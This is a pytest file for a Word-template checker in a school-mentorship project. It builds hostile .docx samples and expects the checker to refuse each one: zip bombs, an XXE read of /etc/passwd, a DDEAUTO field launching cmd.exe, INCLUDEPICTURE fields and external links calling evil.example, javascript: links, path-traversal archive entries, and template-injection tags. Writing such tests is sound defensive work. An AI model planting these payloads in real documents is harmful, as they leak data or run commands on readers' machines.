"""A Word file that is to be a template: hostile ones are refused, wrong tags are named with their place."""

import io
import re
import struct
import time
import warnings
import zipfile
from collections.abc import Callable, Mapping
from functools import cache
from typing import Any

import pytest
from docx import Document

from moodle_mentorship.files import docx
from moodle_mentorship.files.checking import LARGEST, checked
from moodle_mentorship.files.enums import Flaw, Part
from moodle_mentorship.files.template_reader import check
from moodle_mentorship.files.words import FLAWS, PARTS
from tests.files.test_docx import written

VALUES: Mapping[str, Any] = {
    "organisation": "МБОУ «Лицей № 7»",
    "heading": "О закреплении",
    "director": {"post": "Директор", "name": "М. П. Иванова"},
    "rows": [{"number": "1", "mentor": "Тихонов"}, {"number": "2", "mentor": "Ёлкина", "note": "группа"}],
    "texts": ["раз", "два"],
    "doc": {"date": "1", "number": "2", "qr": docx.QrCode("https://school.example/d/1")},
}
PLAIN = written("{{ heading }}")

WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
OF_WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml"
TYPES = "[Content_Types].xml"
PNG = b"\x89PNG\r\n\x1a\n"
FETCHES = "INCLUDEPICTURE &quot;http://evil.example/a.png&quot;"
# Text to Word; docxtpl unescapes it, as if it were within a tag.
UNESCAPED = (
    "{# {{ #}&lt;/w:t&gt;&lt;/w:r&gt;&lt;w:fldSimple w:instr=“INCLUDEPICTURE http://evil.example”/&gt;"
    "&lt;w:r&gt;&lt;w:t&gt;{# }} #}"
)
ALTERNATIVE = 'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"'


def flaws(content: bytes) -> list[Flaw]:
    return [problem.flaw for problem in check(content, VALUES).problems]


def repacked(change: Callable[[dict[str, bytes]], object], content: bytes = PLAIN) -> bytes:
    """The file with other parts."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        parts = {part: archive.read(part) for part in archive.namelist()}
    change(parts)
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, part in parts.items():
            archive.writestr(name, part)
    return target.getvalue()


def with_part(name: str, content: bytes = b"x") -> bytes:
    return repacked(lambda parts: parts.update({name: content}))


def with_relation(kind: str, target: str, mode: str = ' TargetMode="External"') -> bytes:
    relation = f'<Relationship Id="rId99" Type="{RELATION}/{kind}" Target="{target}"{mode}/></Relationships>'
    path = "word/_rels/document.xml.rels"
    return repacked(
        lambda parts: parts.update({path: parts[path].replace(b"</Relationships>", relation.encode())}),
    )


def with_body(xml: str) -> bytes:
    """A paragraph more, of this markup."""
    paragraph = f"<w:body><w:p>{xml}</w:p>".encode()
    path = "word/document.xml"
    return repacked(lambda parts: parts.update({path: parts[path].replace(b"<w:body>", paragraph)}))


def with_part_of(
    kind: str, name: str, content: str | bytes, tie: str | None = None, holder: str = "word/_rels/document.xml.rels"
) -> bytes:
    """A part more, declared to be of this kind, to which the document is tied."""
    tie = tie or kind.rpartition(".")[2].removesuffix("+xml")

    def change(parts: dict[str, bytes]) -> None:
        parts[name] = content if isinstance(content, bytes) else content.encode()
        declared = f'<Override PartName="/{name}" ContentType="{kind}"/></Types>'.encode()
        parts[TYPES] = parts[TYPES].replace(b"</Types>", declared)
        tied = f'<Relationship Id="rId98" Type="{RELATION}/{tie}" Target="/{name}"/></Relationships>'.encode()
        parts[holder] = parts[holder].replace(b"</Relationships>", tied)

    return repacked(change)


def with_settings(xml: str, name: str = "settings") -> bytes:
    path, end = f"word/{name}.xml", f"</w:{name}>"
    return repacked(lambda parts: parts.update({path: parts[path].replace(end.encode(), f"{xml}{end}".encode())}))


def of_word(root: str, xml: str) -> str:
    return f'<w:{root} xmlns:w="{WORD}"><w:p>{xml}</w:p></w:{root}>'


def in_another_folder(parts: dict[str, bytes]) -> None:
    for name in list(parts):
        content = parts.pop(name)
        if name in (TYPES, "_rels/.rels"):
            content = content.replace(b"word/", b"text/")
        parts[name.replace("word/", "text/")] = content


def with_entry(name: str) -> bytes:
    """Another entry of the archive, whatever it holds already."""
    target = io.BytesIO(PLAIN)
    with zipfile.ZipFile(target, "a") as archive, warnings.catch_warnings(action="ignore"):
        archive.writestr(name, "<a/>")
    return target.getvalue()


def encoded(encoding: str) -> bytes:
    """The document in this encoding, with a field that fetches."""

    def change(parts: dict[str, bytes]) -> None:
        text = parts["word/document.xml"].decode().replace("<w:body>", f"<w:body><w:p>{field(FETCHES)}</w:p>")
        text = re.sub(r"encoding=.UTF-8.", f'encoding="{encoding}"', text)
        parts["word/document.xml"] = text.encode(encoding)

    return repacked(change)


def run(text: str) -> str:
    return f"<w:r><w:t>{text}</w:t></w:r>"


def code(text: str) -> str:
    return f"<w:r><w:instrText>{text}</w:instrText></w:r>"


def step(kind: str) -> str:
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def hidden_by(before: str, after: str) -> Callable[[], bytes]:
    """A field that is harmless as long as its first piece stands there."""
    return lambda: with_body(step("begin") + before + code("PAGE ") + after + code(FETCHES) + step("end"))


def shape(xml: str) -> Callable[[], bytes]:
    names = 'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'
    return lambda: with_body(f"<w:r><w:pict><v:group {names}>{xml}</v:group></w:pict></w:r>")


def field(*codes: str) -> str:
    """A field of Word, its code cut into these runs."""
    return step("begin") + "".join(code(each) for each in codes) + step("end")


def field_in(kind: str, root: str) -> Callable[[], bytes]:
    return lambda: with_part_of(f"{OF_WORD}.{kind}+xml", f"word/{kind}9.xml", of_word(root, field(FETCHES)))


def typed_as(kind: bytes) -> bytes:
    main = b"wordprocessingml.document.main+xml"
    return repacked(lambda parts: parts.update({TYPES: parts[TYPES].replace(main, kind)}))


def lying_about_its_size() -> bytes:
    """60 MB of zeros that name themselves ten bytes."""
    content = bytearray(with_part("word/big.xml", b"0" * (60 * 1024 * 1024)))
    true, told = struct.pack("<I", 60 * 1024 * 1024), struct.pack("<I", 10)
    return bytes(content.replace(true, told))


@cache
def bomb() -> bytes:
    return with_part("word/media/image1.png", b"0" * (200 * 1024 * 1024))


HOSTILE: dict[str, tuple[Callable[[], bytes], Flaw]] = {
    "a bomb of 200 MB": (bomb, Flaw.BOMB),
    "a bomb that lies": (lying_about_its_size, Flaw.DAMAGED),
    "a thousand parts": (
        lambda: repacked(lambda parts: parts.update({f"word/{n}.xml": b"<a/>" for n in range(1000)})),
        Flaw.BOMB,
    ),
    "nothing": (lambda: b"", Flaw.NOT_WORD),
    "a PDF": (lambda: b"%PDF-1.4", Flaw.NOT_WORD),
    "an old or an encrypted Word file": (lambda: b"\xd0\xcf\x11\xe0" + b"0" * 100, Flaw.LOCKED),
    "an archive of something else": (
        lambda: repacked(lambda parts: parts.pop(TYPES)),
        Flaw.NOT_WORD,
    ),
    "half a file": (lambda: PLAIN[: len(PLAIN) // 2], Flaw.DAMAGED),
    "broken markup": (lambda: with_part("word/settings.xml", b"<w:settings>"), Flaw.DAMAGED),
    "an entity": (
        lambda: with_part("word/settings.xml", b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'),
        Flaw.DTD,
    ),
    "a macro": (lambda: with_part("word/vbaProject.bin"), Flaw.MACROS),
    "the kind with macros": (
        lambda: typed_as(b"ms-word.document.macroEnabled.main+xml"),
        Flaw.MACROS,
    ),
    "a template of Word": (lambda: typed_as(b"wordprocessingml.template.main+xml"), Flaw.NOT_WORD),
    "an embedded file": (lambda: with_part("word/embeddings/oleObject1.bin"), Flaw.EMBEDDED),
    "an embedded workbook": (lambda: with_part("word/embeddings/book.xlsx"), Flaw.EMBEDDED),
    "a control": (lambda: with_part("word/activeX/activeX1.xml", b"<a/>"), Flaw.CONTROL),
    "a picture that is a program": (lambda: with_part("word/media/image1.svg", b"<svg/>"), Flaw.PICTURE),
    "an object": (lambda: with_body("<w:r><w:object/></w:r>"), Flaw.EMBEDDED),
    "a picture from outside": (lambda: with_relation("image", "http://evil.example/a.png"), Flaw.LINKED),
    "a template from outside": (lambda: with_relation("attachedTemplate", "http://evil.example/a.dotm"), Flaw.TIED),
    "a frame": (lambda: with_relation("frame", "//evil.example/a"), Flaw.LINKED),
    "a link into the machine": (lambda: with_relation("hyperlink", "file:///etc/passwd"), Flaw.LINKED),
    "a link that runs": (lambda: with_relation("hyperlink", "javascript:alert(1)"), Flaw.LINKED),
    "another document": (lambda: with_relation("aFChunk", "/word/a.html", ""), Flaw.CHUNK),
    "a chunk": (lambda: with_body("<w:altChunk/>"), Flaw.CHUNK),
    "a field DDE": (lambda: with_body(field("DDEAUTO c:\\\\cmd.exe &quot;/k calc&quot;")), Flaw.FIELD),
    "a field that is cut": (lambda: with_body(field("INCLUDE", "TEXT ", "http://evil.example/a")), Flaw.FIELD),
    "a picture by a field": (
        lambda: with_body('<w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://evil.example&quot;"/>'),
        Flaw.FIELD,
    ),
    "a formula": (lambda: with_body(field(" = 2 + 2 ")), Flaw.FIELD),
    "the day of opening": (lambda: with_body(field("DATE")), Flaw.FIELD),
    "a field that a field names": (
        lambda: with_body('<w:r><w:fldChar w:fldCharType="begin"/></w:r>' + field("REF a")),
        Flaw.FIELD,
    ),
    "mail merge": (lambda: with_part("word/more.xml", b'<w:mailMerge xmlns:w="a"/>'), Flaw.LINKED),
    "tracked changes": (lambda: with_body("<w:ins><w:r><w:t>а</w:t></w:r></w:ins>"), Flaw.TRACKED),
    # Wherever the document stands in the file.
    "another folder": (lambda: repacked(in_another_folder, with_body(field(FETCHES))), Flaw.FIELD),
    "a field in a header": (field_in("header", "hdr"), Flaw.FIELD),
    "a field in a footer": (field_in("footer", "ftr"), Flaw.FIELD),
    "a field in footnotes": (field_in("footnotes", "footnotes"), Flaw.FIELD),
    "a field in endnotes": (field_in("endnotes", "endnotes"), Flaw.FIELD),
    "a field in comments": (field_in("comments", "comments"), Flaw.FIELD),
    "a field in the numbering": (field_in("numbering", "numbering"), Flaw.FIELD),
    "a field in a building block": (
        lambda: with_part_of(
            *(f"{OF_WORD}.document.glossary+xml", "word/glossary/document.xml"),
            *(of_word("glossaryDocument", field(FETCHES)), "glossaryDocument"),
        ),
        Flaw.FIELD,
    ),
    "mail merge in the settings": (lambda: with_settings("<w:mailMerge/>"), Flaw.LINKED),
    "frames": (lambda: with_settings("<w:frameset/>", "webSettings"), Flaw.LINKED),
    "a package for smart documents": (
        lambda: with_settings('<a:schema xmlns:a="a" a:manifestLocation="http://evil.example/a.xml"/>'),
        Flaw.LINKED,
    ),
    "UTF-16": (lambda: encoded("UTF-16"), Flaw.FIELD),
    "windows-1251": (lambda: encoded("windows-1251"), Flaw.FIELD),
    "UTF-7": (lambda: encoded("UTF-7"), Flaw.DAMAGED),
    # A field whose first piece a tag takes away.
    "a run that goes": (hidden_by(run("{%r if heading == &quot;&quot; %}"), run("{%r endif %}")), Flaw.CUT),
    "a text that goes": (hidden_by(run("{% if heading == &quot;&quot; %}"), run("{% endif %}")), Flaw.CUT),
    "a remark": (hidden_by(run("{# a"), run("b #}")), Flaw.CUT),
    "a remark in XML": (hidden_by("<!-- {# -->", "<!-- #} -->"), Flaw.CUT),
    "a remark between attributes": (
        hidden_by('<w:bookmarkStart w:id="9" w:name="a{#"/>', '<w:bookmarkEnd w:id="9" w:a="#}"/>'),
        Flaw.CUT,
    ),
    "a hyphen that takes the end along": (
        lambda: with_body(
            run("a") + step("begin") + code("PAGE ") + run("{%- if heading %}{% endif %}") + code(FETCHES)
        ),
        Flaw.FIELD,
    ),
    "sections of characters in footnotes": (
        lambda: with_part_of(
            *(f"{OF_WORD}.footnotes+xml", "word/footnotes.xml"),
            of_word("footnotes", "<w:r><w:t><![CDATA[{#]]></w:t></w:r>" + run("#}")),
        ),
        Flaw.CUT,
    ),
    "a value in a code": (lambda: with_body(field("PAGE {{ heading }}")), Flaw.CUT),
    "a value in a simple field": (lambda: with_body('<w:fldSimple w:instr="PAGE {{ heading }}"/>'), Flaw.CUT),
    "a choice in a simple field": (
        lambda: with_body(f'<w:fldSimple w:instr="PAGE">{run("{% if heading %}")}</w:fldSimple>{run("{% endif %}")}'),
        Flaw.CUT,
    ),
    "a value in an attribute": (
        lambda: with_body('<w:bookmarkStart w:id="9" w:name="{{ heading }}"/>'),
        Flaw.CUT,
    ),
    "markup from text": (lambda: with_body(run(UNESCAPED)), Flaw.FIELD),
    # A field of which not every program sees the same pieces.
    "an alternative": (
        hidden_by(
            f'<mc:AlternateContent {ALTERNATIVE}><mc:Choice Requires="a">',
            "</mc:Choice></mc:AlternateContent>",
        ),
        Flaw.FIELD,
    ),
    "a strange element around": (hidden_by('<a:a xmlns:a="a">', "</a:a>"), Flaw.FIELD),
    "a strange code": (hidden_by('<a:instrText xmlns:a="a">PAGE </a:instrText>', ""), Flaw.FIELD),
    "a box": (hidden_by("<w:pict><w:txbxContent><w:p>", "</w:p></w:txbxContent></w:pict>"), Flaw.FIELD),
    "a code behind an element": (
        lambda: with_body(step("begin") + code(f'<a:a xmlns:a="a"/>{FETCHES}') + step("end")),
        Flaw.FIELD,
    ),
    "two kinds of a step": (
        lambda: with_body('<w:r><w:fldChar xmlns:a="a" a:fldCharType="end" w:fldCharType="begin"/></w:r>'),
        Flaw.FIELD,
    ),
    "an attribute without its namespace": (lambda: with_body('<w:fldSimple instr="DATE"/>'), Flaw.FIELD),
    "the strict namespace": (
        lambda: with_body(
            '<s:fldSimple xmlns:s="http://purl.oclc.org/ooxml/wordprocessingml/main" s:instr="DATE"/>',
        ),
        Flaw.NOT_WORD,
    ),
    "a field within a code": (
        lambda: with_body(step("begin") + code("HYPERLINK ") + field("REF a") + step("end")),
        Flaw.FIELD,
    ),
    "a field into the machine": (lambda: with_body(field("HYPERLINK &quot;file:///c:/a.exe&quot;")), Flaw.LINKED),
    "a field to a neighbour": (lambda: with_body(field(r"HYPERLINK \\evil\a")), Flaw.LINKED),
    "a field that runs": (lambda: with_body(field(r"HYPERLINK \o &quot;a&quot; javascript:a")), Flaw.LINKED),
    # Names, kinds and ties that disagree.
    "a header that is a picture": (
        lambda: with_part_of(f"{OF_WORD}.header+xml", "word/media/a.png", of_word("hdr", field(FETCHES))),
        Flaw.EMBEDDED,
    ),
    "a header that is data": (
        lambda: with_part_of("application/xml", "word/header9.xml", of_word("hdr", run("а")), "header"),
        Flaw.EMBEDDED,
    ),
    "all pictures are headers": (
        lambda: repacked(
            lambda parts: parts.update(
                {
                    "word/a.png": of_word("hdr", field(FETCHES)).encode(),
                    TYPES: parts[TYPES].replace(
                        b"<Default",
                        f'<Default Extension="png" ContentType="{OF_WORD}.header+xml"/><Default'.encode(),
                        1,
                    ),
                }
            )
        ),
        Flaw.EMBEDDED,
    ),
    "a vector that says PNG": (lambda: with_part_of("image/png", "word/media/a.png", "<svg/>", "image"), Flaw.PICTURE),
    "a program that says PNG": (lambda: with_part_of("image/png", "word/media/a.png", "%!PS", "image"), Flaw.PICTURE),
    "a picture that is called a thumbnail": (
        lambda: with_part_of("image/svg+xml", "word/media/thumbnail.svg", "<svg/>", "image"),
        Flaw.PICTURE,
    ),
    "a page that is called a thumbnail": (
        lambda: with_part_of("text/html", "word/thumbnail.html", "<html/>", "image"),
        Flaw.EMBEDDED,
    ),
    "a thumbnail in the text": (
        lambda: with_part_of("image/x-emf", "docProps/thumbnail.emf", b"\x01\x00\x00\x00", "image"),
        Flaw.EMBEDDED,
    ),
    "a workbook that is XML": (
        lambda: with_part_of(
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", "word/a.xml", "<a/>", "package"
        ),
        Flaw.EMBEDDED,
    ),
    "a page that is XML": (lambda: with_part_of("text/html", "word/a.xml", "<html/>", "aFChunk"), Flaw.EMBEDDED),
    "an add-in": (
        lambda: with_part_of(
            *("application/vnd.ms-office.webextensiontaskpanes+xml", "word/webextensions/taskpanes.xml", "<a/>"),
            *("webextensiontaskpanes", "_rels/.rels"),
        ),
        Flaw.EMBEDDED,
    ),
    "buttons of its own": (
        lambda: with_part_of("application/xml", "customUI/customUI.xml", "<a/>", "extensibility", "_rels/.rels"),
        Flaw.EMBEDDED,
    ),
    "keys of its own": (
        lambda: with_part_of(
            "application/vnd.ms-word.keyMapCustomizations+xml", "word/a.xml", "<a/>", "keyMapCustomizations"
        ),
        Flaw.EMBEDDED,
    ),
    "two documents": (
        lambda: with_part_of(
            *(f"{OF_WORD}.document.main+xml", "word/second.xml", of_word("document", run("а"))),
            *("officeDocument", "_rels/.rels"),
        ),
        Flaw.NOT_WORD,
    ),
    "a picture from outside that says it is within": (
        lambda: with_relation("image", "http://evil.example/a.png", ""),
        Flaw.LINKED,
    ),
    "a neighbour's picture": (lambda: with_relation("image", r"\\evil\a.png", ""), Flaw.LINKED),
    "a picture from outside in another spelling": (
        lambda: with_relation("image", "http://evil.example/a.png", ' TargetMode="EXTERNAL "'),
        Flaw.LINKED,
    ),
    "a tie in another namespace": (
        lambda: repacked(
            lambda parts: parts.update(
                {
                    "word/_rels/document.xml.rels": parts["word/_rels/document.xml.rels"].replace(
                        b"</Relationships>",
                        b'<a:Relationship xmlns:a="a" Id="a" Type="a/image" Target="http://evil.example/a.png" '
                        b'TargetMode="External"/></Relationships>',
                    )
                }
            )
        ),
        Flaw.LINKED,
    ),
    "a tie to nothing": (lambda: with_relation("image", "media/none.png", ""), Flaw.DAMAGED),
    "ties in capitals": (lambda: with_part("word/_rels/header1.xml.RELS", b"<a/>"), Flaw.DAMAGED),
    "an entry twice": (lambda: with_entry("word/document.xml"), Flaw.DAMAGED),
    "an entry twice, once in capitals": (lambda: with_entry("word/Document.xml"), Flaw.DAMAGED),
    "a path with a backslash": (lambda: with_entry("word\\evil.xml"), Flaw.DAMAGED),
    "a path from the root": (lambda: with_entry("/etc/evil.xml"), Flaw.DAMAGED),
    "a path upwards": (lambda: with_entry("word/../evil.xml"), Flaw.DAMAGED),
    "a path in disguise": (lambda: with_entry("word/%64ocument.xml"), Flaw.DAMAGED),
    # What brings more than text, or fetches it, without a tie.
    "a shape's picture": (shape('<v:imagedata src="http://evil.example/a.png"/>'), Flaw.LINKED),
    "where a shape's picture comes from": (shape('<v:imagedata o:href="http://evil.example/a.png"/>'), Flaw.LINKED),
    "another picture of a shape": (shape('<v:imagedata o:althref="//evil.example/a.png"/>'), Flaw.LINKED),
    "a shape filled from a neighbour": (shape(r'<v:fill src="\\evil\a.png"/>'), Flaw.LINKED),
    "a shape into the machine": (shape('<v:shape href="file:///c:/a.exe"/>'), Flaw.LINKED),
    "a shape that behaves": (shape('<v:shape style="behavior:url(http://evil.example)"/>'), Flaw.LINKED),
    "a film": (lambda: with_body('<a:webVideoPr xmlns:a="a" embeddedHtml="&lt;iframe&gt;"/>'), Flaw.EMBEDDED),
    "ink": (lambda: with_body("<w:r><w:contentPart/></w:r>"), Flaw.EMBEDDED),
    "a control that is bound": (
        lambda: with_body('<w:sdt><w:sdtPr><a:dataBinding xmlns:a="a"/></w:sdtPr><w:sdtContent/></w:sdt>'),
        Flaw.BOUND,
    ),
    "a diagram of a workbook": (
        lambda: with_part_of(
            "application/vnd.openxmlformats-officedocument.drawingml.chart+xml",
            *("word/charts/chart1.xml", '<c:chart xmlns:c="c"><c:externalData/></c:chart>'),
        ),
        Flaw.LINKED,
    ),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_file_is_refused(name: str) -> None:
    make, flaw = HOSTILE[name]
    content = make()
    assert len(content) < LARGEST
    assert set(flaws(content)) == {flaw}


def test_what_templates_are_made_of_is_taken() -> None:
    harmless = [
        with_body(field(" PAGE  \\* MERGEFORMAT ") + field("NUMPAGES")),
        with_relation("hyperlink", "https://school.example/"),
        with_body(field(" ", "PA", "GE ", " \\* MERGEFORMAT ")),
        with_body(run("{% if heading %}") + field("PAGE") + run("{% endif %}")),
        with_body(
            step("begin") + code(r"TOC \o &quot;1-3&quot;") + step("separate") + run("{{ heading }}") + step("end")
        ),
        with_body(
            field(r"HYPERLINK &quot;https://school.example&quot; \o &quot;a: b&quot;") + field(r"HYPERLINK \l a")
        ),
        with_part_of("image/png", "word/media/image1.png", PNG, "image"),
        with_part_of("image/x-emf", "docProps/thumbnail.emf", b"\x01\x00\x00\x00", "thumbnail", "_rels/.rels"),
        with_part_of("application/xml", "customXml/item9.xml", '<control src="http://a.example"/>', "customXml"),
        written("{% if doc.qr %}{{ doc.qr }}{% endif %}{{ texts|join(', ') }}{{ rows|length }}{{ texts[0] }}"),
        written("{% for row in rows %}{{ loop.index }}{{ row.mentor }}{{ row.note|default('') }}{% endfor %}"),
    ]
    assert [flaws(content) for content in harmless] == [[]] * len(harmless)


TAGS = {
    "{{ directer.name }}": (Flaw.UNKNOWN, "directer", ["director"]),
    "{{ director.nmae }}": (Flaw.UNKNOWN, "director.nmae", ["director.name"]),
    "{{ loop.index }}": (Flaw.UNKNOWN, "loop", []),
    "{% for row in rows %}{{ row.salary }}{% endfor %}": (Flaw.UNKNOWN, "row.salary", []),
    "{{ rows }}": (Flaw.WHOLE, "rows", []),
    "{{ director }}": (Flaw.WHOLE, "director", []),
    "{% for a in heading %}{% endfor %}": (Flaw.NO_LIST, "heading", []),
    "{% for a in rows %}": (Flaw.UNPAIRED, "for", []),
    "{% if heading %}{% endfor %}": (Flaw.UNPAIRED, "endfor", []),
    "{% else %}": (Flaw.UNPAIRED, "else", []),
    "{{ heading": (Flaw.UNCLOSED, None, []),
    "{{ heading + }}": (Flaw.SYNTAX, "{{ heading + }}", []),
    "{%p if heading %}": (Flaw.LOST, "{%p if heading %}", []),
    "{% set a = 1 %}": (Flaw.FORBIDDEN, "set", []),
    "{% include 'a' %}": (Flaw.FORBIDDEN, "include", []),
    "{{ heading.__class__ }}": (Flaw.FORBIDDEN, "__class__", []),
    "{{ range(1000000000) }}": (Flaw.FORBIDDEN, "range(…)", []),
    "{{ heading.upper() }}": (Flaw.FORBIDDEN, "upper(…)", []),
    "{{ heading|pprint }}": (Flaw.FORBIDDEN, "|pprint", []),
    "{{ heading ~ heading }}": (Flaw.FORBIDDEN, "~", []),
}


@pytest.mark.parametrize("tag", TAGS)
def test_a_wrong_tag_is_named_with_its_place(tag: str) -> None:
    flaw, what, near = TAGS[tag]
    found = [one for one in check(written("Школа", f"Приказ {tag} далее"), VALUES).problems if one.flaw is flaw]
    problem = found[0]
    assert (problem.params.get("what"), list(problem.near)) == (what, near)
    assert problem.place is not None
    assert (problem.place.part, problem.place.paragraph, problem.place.table) == (Part.BODY, 2, None)
    assert tag[:10] in problem.place.text


def test_all_flaws_of_a_file_are_told_at_once() -> None:
    text = "{% for row in rows %}{{ row.salary }}{% if a %}{{ haeding }}{% endfor %}{{ heading }}"
    told = [(one.flaw, one.params["what"]) for one in check(written(text), VALUES).problems]
    assert told == [
        *[(Flaw.UNPAIRED, "endfor"), (Flaw.UNPAIRED, "if"), (Flaw.UNPAIRED, "for")],
        *[(Flaw.UNKNOWN, "row.salary"), (Flaw.UNKNOWN, "a"), (Flaw.UNKNOWN, "haeding")],
    ]


def test_places_in_tables_headers_and_cut_runs() -> None:
    document = Document()
    document.add_table(1, 1)
    table = document.add_table(3, 2)
    table.cell(2, 1).text = "{{ wrong }}"
    runs = document.add_paragraph("до ")
    for run in ("{", "{ twi", "ce", " }", "}"):
        runs.add_run(run).bold = run == "ce"
    document.sections[0].header.paragraphs[0].text = "{{ above }}"
    target = io.BytesIO()
    document.save(target)
    told = {
        problem.params["what"]: problem.place and (problem.place.part, problem.place.table, problem.place.row)
        for problem in check(target.getvalue(), VALUES).problems
    }
    assert told == {"wrong": (Part.BODY, 2, 3), "twice": (Part.BODY, None, None), "above": (Part.HEADER, None, None)}


def test_found_names_and_those_that_are_missing() -> None:
    read = check(written("{{ heading }} {% for row in rows %}{{ row.mentor }}{% endfor %} {{ heading }}"), VALUES)
    assert [one.name for one in read.found] == ["heading", "rows", "row.mentor"]
    assert read.unused("heading", "doc.number", "rows", "director") == ["doc.number", "director"]


def test_the_work_is_done_elsewhere_and_ends() -> None:
    good = checked(PLAIN, VALUES)
    assert (good.problems, [one.name for one in good.found]) == ([], ["heading"])
    (wrong,) = checked(written("{{ haeding }}"), VALUES).problems
    assert (wrong.flaw, wrong.place and wrong.place.part, wrong.near) == (Flaw.UNKNOWN, Part.BODY, ["heading"])
    assert [one.flaw for one in checked(b"PK" + b"0" * LARGEST, VALUES).problems] == [Flaw.LARGE]
    # A thousand million words.
    loops = "{% for a in texts %}{% for b in texts %}{% for c in texts %}Договор{% endfor %}{% endfor %}{% endfor %}"
    started = time.monotonic()
    endless = checked(written(loops), {"texts": ["а"] * 1000})
    assert [one.flaw for one in endless.problems] == [Flaw.ENDLESS]
    assert time.monotonic() - started < 30


def test_every_flaw_has_its_words() -> None:
    assert set(FLAWS) == set(Flaw)
    assert set(PARTS) == set(Part)
